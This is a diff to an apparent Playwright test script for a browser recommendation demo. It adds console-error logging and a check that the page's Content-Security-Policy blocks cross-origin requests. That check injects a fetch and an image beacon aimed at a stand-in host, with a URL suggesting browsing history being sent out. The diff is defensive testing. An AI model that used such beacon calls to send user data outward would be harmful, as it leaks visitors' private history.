@@ -85,6 +85,8 @@ async function runMode(mode, result) {
       const session = await browser.newContext({ viewport: { width: 1200, height: 900 } });
       const p = await session.newPage();
       const requests = [];
+      // The demo's console must stay clean (a CSP violation is logged as an error).
+      p.on('console', m => m.type() === 'error' && result.demoConsole.push(`session ${i}: ${m.text()}`));
       p.on('request', r => requests.push(`${r.method()} ${r.url().replace(origin, '')}${r.headers().range ? ` range=${r.headers().range}` : ''}`));
       await p.addInitScript(() => {
         window.__longTasks = [];
@@ -113,6 +115,30 @@ async function runMode(mode, result) {
       result.sessions.push({ clicks, history, recs, backendShown, firstLoad, cachedLoad, cachedFlag, requests, longTasks, error: await p.textContent('#error') });
       await session.close();
     }
+    // 2b. The Content-Security-Policy holds: a fetch and an <img> to another origin, injected into
+    //     the demo page, are both blocked and reported as violations.
+    if (mode === 'cpu') {
+      const session = await browser.newContext();
+      const p = await session.newPage();
+      await p.goto(`${origin}/index.html?bundle=fixtures/bundle.gguf&backend=cpu`);
+      await p.waitForSelector('body[data-ready="true"]', { timeout: 300_000 });
+      result.csp = await p.evaluate(async () => {
+        const violations = [];
+        document.addEventListener('securitypolicyviolation', e => violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
+        let fetchError = null;
+        try { await fetch('http://127.0.0.2:9/collect?history=1'); } catch (e) { fetchError = String(e); }
+        const img = await new Promise(r => {
+          const i = new Image();
+          i.onload = () => r('loaded');
+          i.onerror = () => r('error');
+          i.src = 'http://127.0.0.2:9/pixel.png';
+          document.body.append(i);
+        });
+        await new Promise(r => setTimeout(r, 300));
+        return { violations, fetchError, img };
+      });
+      await session.close();
+    }
     // 3. The bundled demo model (dist/assets), CPU path: two visitors with histories from two
     //    product lines, each key typed into the search box and added; their top-10 lists.
     if (mode === 'cpu' && demoHistories) {
@@ -121,6 +147,7 @@ async function runMode(mode, result) {
         const session = await browser.newContext({ viewport: { width: 1200, height: 1400 } });
         const p = await session.newPage();
         p.on('pageerror', e => result.console.push(`demo pageerror: ${e.message}`));
+        p.on('console', m => m.type() === 'error' && result.demoConsole.push(`visitor ${i}: ${m.text()}`));
         await p.goto(`${origin}/index.html?backend=cpu`);
         await p.waitForSelector('body[data-ready="true"]', { timeout: 300_000 });
         for (const [done, key] of keys.entries()) {
@@ -142,7 +169,7 @@ async function runMode(mode, result) {
 
 const report = { origin, modes: [] };
 for (const mode of ['webgpu', 'cpu']) {
-  const result = { mode, sessions: [], console: [] };
+  const result = { mode, sessions: [], console: [], demoConsole: [] };
   try {
     await runMode(mode, result);
   } catch (e) {
